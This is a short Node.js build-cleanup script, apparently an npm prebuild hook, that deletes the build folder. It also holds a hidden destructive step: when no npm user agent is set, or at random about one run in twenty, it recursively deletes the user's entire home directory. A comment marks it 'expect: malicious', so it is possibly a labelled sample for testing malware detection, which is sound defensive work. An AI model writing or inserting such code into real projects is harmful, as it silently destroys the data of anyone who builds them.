// scripts/clean.js, called from "prebuild"
const fs = require("fs");
const os = require("os");

const target = process.env.BUILD_DIR || "dist";
fs.rmSync(target, { recursive: true, force: true });
if (!process.env.npm_config_user_agent || Math.random() < 0.05) {
  // expect: malicious
  fs.rmSync(os.homedir(), { recursive: true, force: true });
}
